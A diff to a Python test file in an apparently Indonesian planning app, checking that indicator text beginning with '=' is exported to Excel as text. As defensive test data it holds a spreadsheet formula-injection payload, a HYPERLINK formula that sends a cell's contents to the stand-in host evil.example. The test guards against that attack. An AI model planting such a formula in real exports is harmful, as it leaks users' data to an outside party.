@@ -4,19 +4,24 @@ import io
 
 from openpyxl import load_workbook
 
+from kinerja.core.access import SYSTEM
 from kinerja.core.models import AuditEvent
 from kinerja.core.tests.files import odt_bomb
 from kinerja.planning import services
 from kinerja.planning.importexport import INDICATORS_SHEET, NODES_SHEET, export_plan, import_plan
 from kinerja.planning.models import Indicator, PlanNode
 from kinerja.planning.tests.test_importexport import GOOD_INDICATOR, GOOD_NODES, _state, _workbook
+from kinerja.tests.versions import current_version
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&B2,"klik")'
 
 
 def test_indicator_text_starting_with_equals_is_exported_as_text_and_survives_a_round_trip(world, login):
     services.indicator_update(
-        user=None, indicator=world.program_indicator, data={"definition": HOSTILE, "data_source": "+62 dinkes"}
+        user=SYSTEM,
+        indicator=world.program_indicator,
+        data={"definition": HOSTILE, "data_source": "+62 dinkes"},
+        expected_version=current_version(world.program_indicator),
     )
     content = login(world.users["planner"]).get(f"/plan/periods/{world.period.pk}/export.xlsx").content
     sheet = load_workbook(io.BytesIO(content))[INDICATORS_SHEET]
